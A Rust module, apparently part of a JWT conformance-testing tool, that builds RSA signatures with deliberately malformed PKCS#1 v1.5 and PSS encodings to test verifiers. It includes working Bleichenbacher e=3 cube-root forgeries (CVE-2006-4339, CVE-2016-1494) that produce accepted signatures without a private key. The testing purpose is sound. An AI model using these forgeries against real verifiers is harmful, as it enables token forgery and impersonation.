//! Raw RSA signatures over the stored keys: the private-key operation (RFC 8017 §5.2.1, RSASP1)
//! applied to encoded messages this module builds itself, so that a signature can carry any
//! encoding, correct or not:
//!
//! - EMSA-PKCS1-v1_5 (RFC 8017 §9.2) with knobs: the hash named and computed in the DigestInfo,
//!   the DigestInfo's NULL parameters present or absent, octets other than 0xff in the padding
//!   string, and garbage after the DigestInfo (taken from the padding string, so the encoded
//!   message keeps the modulus length and the padding string may become short).
//! - EMSA-PSS (RFC 8017 §9.1.1) with knobs: the salt length, the MGF1 hash and the trailer octet.
//! - Bleichenbacher's 2006 forgeries for a key with e = 3 (CVE-2006-4339, CVE-2016-1494): no
//!   private key at all, a cube root whose cube has the right prefix (garbage after the
//!   DigestInfo) or the right prefix and suffix (garbage in the padding string).
//!
//! Everything is deterministic. The genuine encodings through this path equal
//! [`crate::alg::sign`]'s signatures byte for byte (`tests/rsa_raw.rs`).

use chacha20::ChaCha20Rng;
use chacha20::rand_core::{Rng, SeedableRng};
use num_bigint::BigUint;
use rsa::traits::PrivateKeyParts;
use sha2::{Digest, Sha256, Sha384, Sha512};

use crate::alg::{Alg, RsaKey};

/// A SHA-2 hash of the RSA algorithms.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hash {
    Sha256,
    Sha384,
    Sha512,
}

impl Hash {
    /// The hash of an RS*/PS* algorithm (by its output size).
    pub fn of(alg: Alg) -> Hash {
        match alg.hash_bits() {
            384 => Hash::Sha384,
            512 => Hash::Sha512,
            _ => Hash::Sha256,
        }
    }

    /// The output length in octets (hLen).
    pub const fn output_len(self) -> usize {
        match self {
            Hash::Sha256 => 32,
            Hash::Sha384 => 48,
            Hash::Sha512 => 64,
        }
    }

    /// The hash's name, for descriptions.
    pub const fn name(self) -> &'static str {
        match self {
            Hash::Sha256 => "SHA-256",
            Hash::Sha384 => "SHA-384",
            Hash::Sha512 => "SHA-512",
        }
    }

    pub fn digest(self, data: &[u8]) -> Vec<u8> {
        match self {
            Hash::Sha256 => Sha256::digest(data).to_vec(),
            Hash::Sha384 => Sha384::digest(data).to_vec(),
            Hash::Sha512 => Sha512::digest(data).to_vec(),
        }
    }

    /// The last arc of the hash's OID under 2.16.840.1.101.3.4.2 (RFC 8017 Appendix B.1).
    const fn oid_arc(self) -> u8 {
        match self {
            Hash::Sha256 => 1,
            Hash::Sha384 => 2,
            Hash::Sha512 => 3,
        }
    }

    /// MGF1 over this hash (RFC 8017 Appendix B.2.1).
    pub fn mgf1(self, seed: &[u8], len: usize) -> Vec<u8> {
        let mut out = Vec::with_capacity(len + self.output_len());
        let mut counter = 0u32;
        while out.len() < len {
            out.extend(self.digest(&[seed, &counter.to_be_bytes()[..]].concat()));
            counter += 1;
        }
        out.truncate(len);
        out
    }
}

/// The DER DigestInfo T of RFC 8017 §9.2 step 2 for `hash` over `digest`, with the
/// AlgorithmIdentifier's parameters NULL (as §9.2 Note 1 lists them) or absent.
pub fn digest_info(hash: Hash, null_params: bool, digest: &[u8]) -> Vec<u8> {
    let oid = [
        0x06,
        0x09,
        0x60,
        0x86,
        0x48,
        0x01,
        0x65,
        0x03,
        0x04,
        0x02,
        hash.oid_arc(),
    ];
    let mut alg_id = oid.to_vec();
    if null_params {
        alg_id.extend([0x05, 0x00]);
    }
    let mut body = vec![0x30, alg_id.len() as u8];
    body.extend(alg_id);
    body.extend([0x04, digest.len() as u8]);
    body.extend_from_slice(digest);
    let mut t = vec![0x30, body.len() as u8];
    t.extend(body);
    t
}

/// How the padding string of an EMSA-PKCS1-v1_5 encoding is filled.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Padding {
    /// 0xff octets (RFC 8017 §9.2 step 4).
    Ff,
    /// Non-zero octets other than 0xff (what a parser that only looks for the 0x00 separator
    /// lets through).
    Garbage,
}

/// The knobs of an EMSA-PKCS1-v1_5 encoding; [`Pkcs1::genuine`] is RFC 8017 §9.2.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Pkcs1 {
    /// The hash named in the DigestInfo and applied to the message.
    pub hash: Hash,
    /// The DigestInfo's AlgorithmIdentifier carries NULL parameters.
    pub null_params: bool,
    pub padding: Padding,
    /// Octets of garbage after the DigestInfo, taken from the padding string.
    pub after: usize,
}

impl Pkcs1 {
    /// The encoding RS256/RS384/RS512 prescribe.
    pub fn genuine(alg: Alg) -> Pkcs1 {
        Pkcs1 {
            hash: Hash::of(alg),
            null_params: true,
            padding: Padding::Ff,
            after: 0,
        }
    }

    /// The encoded message EM of `em_len` octets for `message`:
    /// `0x00 || 0x01 || PS || 0x00 || T || garbage`.
    ///
    /// # Panics
    /// When the padding string would be negative.
    pub fn encode(&self, message: &[u8], em_len: usize) -> Vec<u8> {
        let t = digest_info(self.hash, self.null_params, &self.hash.digest(message));
        let ps_len = em_len
            .checked_sub(3 + t.len() + self.after)
            .expect("the modulus holds the DigestInfo and the garbage");
        let mut em = vec![0x00, 0x01];
        em.extend((0..ps_len).map(|i| match self.padding {
            Padding::Ff => 0xff,
            Padding::Garbage => 0x01 + (i % 0xfe) as u8,
        }));
        em.push(0x00);
        em.extend(t);
        em.extend((0..self.after).map(|i| 0x5a ^ (i as u8)));
        em
    }
}

/// The knobs of an EMSA-PSS encoding; [`Pss::genuine`] is RFC 7518 §3.5's.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Pss {
    /// The message hash (and the hash of M').
    pub hash: Hash,
    /// The hash MGF1 is built on.
    pub mgf_hash: Hash,
    /// The salt length sLen.
    pub salt_len: usize,
    /// The last octet (0xbc, RFC 8017 §9.1.1 step 12).
    pub trailer: u8,
}

impl Pss {
    /// The encoding PS256/PS384/PS512 prescribe: MGF1 over the same hash, a salt of hLen octets.
    pub fn genuine(alg: Alg) -> Pss {
        let hash = Hash::of(alg);
        Pss {
            hash,
            mgf_hash: hash,
            salt_len: hash.output_len(),
            trailer: 0xbc,
        }
    }

    /// EMSA-PSS-ENCODE (RFC 8017 §9.1.1) of `message` into `em_bits` bits with this salt.
    ///
    /// # Panics
    /// When the salt and hash do not fit (`emLen < hLen + sLen + 2`) or the salt is not
    /// `salt_len` octets.
    pub fn encode(&self, message: &[u8], em_bits: usize, salt: &[u8]) -> Vec<u8> {
        assert_eq!(salt.len(), self.salt_len, "salt of the chosen length");
        let h_len = self.hash.output_len();
        let em_len = em_bits.div_ceil(8);
        assert!(em_len >= h_len + self.salt_len + 2, "encoding error");
        let m_hash = self.hash.digest(message);
        let m_prime = [&[0u8; 8][..], &m_hash, salt].concat();
        let h = self.hash.digest(&m_prime);
        let mut db = vec![0u8; em_len - self.salt_len - h_len - 2];
        db.push(0x01);
        db.extend_from_slice(salt);
        let mask = self.mgf_hash.mgf1(&h, em_len - h_len - 1);
        for (d, m) in db.iter_mut().zip(mask) {
            *d ^= m;
        }
        db[0] &= 0xff >> (8 * em_len - em_bits);
        db.extend(h);
        db.push(self.trailer);
        db
    }
}

/// The salt forge's PSS signatures use: the first `len` octets of ChaCha20 seeded with SHA-256
/// of the key name and the signing input (as [`crate::alg::sign`] draws it).
pub fn pss_salt(key: &RsaKey, input: &[u8], len: usize) -> Vec<u8> {
    let mut seed = Sha256::new();
    seed.update(format!("jwt-conformance/pss/{}/", key.name()).as_bytes());
    seed.update(input);
    let mut rng = ChaCha20Rng::from_seed(seed.finalize().into());
    let mut salt = vec![0u8; len];
    rng.fill_bytes(&mut salt);
    salt
}

/// The modulus length in octets (k).
pub fn modulus_len(key: &RsaKey) -> usize {
    key.bits() / 8
}

/// The modulus n.
pub fn modulus(key: &RsaKey) -> BigUint {
    BigUint::from_bytes_be(&key.n())
}

/// `v` as exactly `len` big-endian octets (I2OSP, RFC 8017 §4.1).
///
/// # Panics
/// When `v` needs more than `len` octets.
pub fn i2osp(v: &BigUint, len: usize) -> Vec<u8> {
    let bytes = v.to_bytes_be();
    let bytes: &[u8] = if bytes == [0] { &[] } else { &bytes };
    assert!(bytes.len() <= len, "integer too large");
    [vec![0u8; len - bytes.len()], bytes.to_vec()].concat()
}

/// RSASP1 (RFC 8017 §5.2.1): `em^d mod n`, as k octets.
///
/// # Panics
/// When `em` as an integer is not below n.
pub fn private_op(key: &RsaKey, em: &[u8]) -> Vec<u8> {
    let n = modulus(key);
    let m = BigUint::from_bytes_be(em);
    assert!(m < n, "message representative out of range");
    let d = BigUint::from_bytes_be(&key.private().d().to_be_bytes_trimmed_vartime());
    i2osp(&m.modpow(&d, &n), modulus_len(key))
}

/// `sig + n` in as many octets as `sig`, when it fits: an integer congruent to the signature
/// modulo n but not below n (RSAVP1's range check, RFC 8017 §5.2.2, refuses it).
pub fn plus_modulus(key: &RsaKey, sig: &[u8]) -> Option<Vec<u8>> {
    let v = BigUint::from_bytes_be(sig) + modulus(key);
    (v.bits() <= 8 * sig.len() as u64).then(|| i2osp(&v, sig.len()))
}

/// An RSASSA-PKCS1-v1_5 signature of `input` with this encoding.
pub fn sign_pkcs1(key: &RsaKey, input: &[u8], encoding: Pkcs1) -> Vec<u8> {
    private_op(key, &encoding.encode(input, modulus_len(key)))
}

/// An RSASSA-PSS signature of `input` with this encoding, the salt drawn by [`pss_salt`].
pub fn sign_pss(key: &RsaKey, input: &[u8], encoding: Pss) -> Vec<u8> {
    let salt = pss_salt(key, input, encoding.salt_len);
    private_op(key, &encoding.encode(input, key.bits() - 1, &salt))
}

/// The smallest integer whose cube is at least `v`.
fn cbrt_ceil(v: &BigUint) -> BigUint {
    let r = v.cbrt();
    if &(&r * &r * &r) == v { r } else { r + 1u32 }
}

fn is_e3(key: &RsaKey) -> bool {
    key.e() == [3]
}

/// Bleichenbacher's 2006 forgery for a key with e = 3 and a verifier that ignores what follows
/// the DigestInfo: `s` such that `s^3` (no reduction: it stays below n) reads
/// `0x00 || 0x01 || 0xff × ps_len || 0x00 || T || garbage`, T the genuine DigestInfo of `alg`.
/// `None` when the garbage is too short to absorb the cube root's error.
///
/// # Panics
/// When the key's exponent is not 3.
pub fn forge_e3_garbage_after(
    key: &RsaKey,
    alg: Alg,
    input: &[u8],
    ps_len: usize,
) -> Option<Vec<u8>> {
    assert!(is_e3(key), "a cube-root forgery needs e = 3");
    let k = modulus_len(key);
    let hash = Hash::of(alg);
    let mut prefix = vec![0x00, 0x01];
    prefix.extend(std::iter::repeat_n(0xff, ps_len));
    prefix.push(0x00);
    prefix.extend(digest_info(hash, true, &hash.digest(input)));
    let garbage_bits = 8 * (k.checked_sub(prefix.len())?) as u64;
    let target = BigUint::from_bytes_be(&prefix) << garbage_bits;
    let s = cbrt_ceil(&target);
    let cube = &s * &s * &s;
    let fits = cube < modulus(key) && (&cube >> garbage_bits) == (&target >> garbage_bits);
    fits.then(|| i2osp(&s, k))
}

/// The cube root of `a` modulo 2^bits (`a` odd: cubing permutes the odd residues).
fn cbrt_mod_pow2(a: &BigUint, bits: u64) -> BigUint {
    let one = BigUint::from(1u32);
    let modulus = &one << bits;
    let a = a % &modulus;
    let mut x = one.clone();
    for i in 1..bits {
        let bit = &one << i;
        let diff = ((&x * &x * &x) % &modulus + &modulus - &a) % &modulus;
        if diff.bit(i) {
            x += &bit;
        }
    }
    x
}

/// The forgery of CVE-2016-1494 for a key with e = 3 and a verifier that takes everything
/// between `0x00 0x01` and the first `0x00` as padding without checking it is 0xff, and reads
/// the DigestInfo from the end: `s` such that `s^3` reads `0x00 || 0x01 || G || 0x00 || T`,
/// G non-zero garbage, T the genuine DigestInfo of `alg`. `None` when T's last octet is even
/// (no cube root modulo a power of two; change the message) or no candidate fits.
///
/// # Panics
/// When the key's exponent is not 3.
pub fn forge_e3_garbage_in_padding(key: &RsaKey, alg: Alg, input: &[u8]) -> Option<Vec<u8>> {
    assert!(is_e3(key), "a cube-root forgery needs e = 3");
    let k = modulus_len(key);
    let hash = Hash::of(alg);
    let mut suffix = vec![0x00];
    suffix.extend(digest_info(hash, true, &hash.digest(input)));
    if suffix.last()? & 1 == 0 {
        return None;
    }
    let low_bits = 8 * suffix.len() as u64;
    let low = cbrt_mod_pow2(&BigUint::from_bytes_be(&suffix), low_bits);
    // s^3 must begin 0x00 0x01: s between the cube roots of 2^(8k-16) and 2^(8k-15). Search
    // down from the top, where the padding's leading octets are 0xff rather than 0x00.
    let top = 8 * k as u64 - 16;
    let lo = cbrt_ceil(&(BigUint::from(1u32) << top));
    let hi = (BigUint::from(2u32) << top).cbrt();
    let mut high = &hi >> low_bits;
    let n = modulus(key);
    for _ in 0..4096 {
        let s = (&high << low_bits) + &low;
        if high == BigUint::ZERO {
            return None;
        }
        high -= 1u32;
        if s > hi {
            continue;
        }
        if s < lo {
            return None;
        }
        let cube = &s * &s * &s;
        if cube >= n {
            return None;
        }
        let em = i2osp(&cube, k);
        let garbage = &em[2..k - suffix.len()];
        if em[..2] == [0x00, 0x01] && !garbage.contains(&0) && em.ends_with(&suffix) {
            return Some(i2osp(&s, k));
        }
    }
    None
}
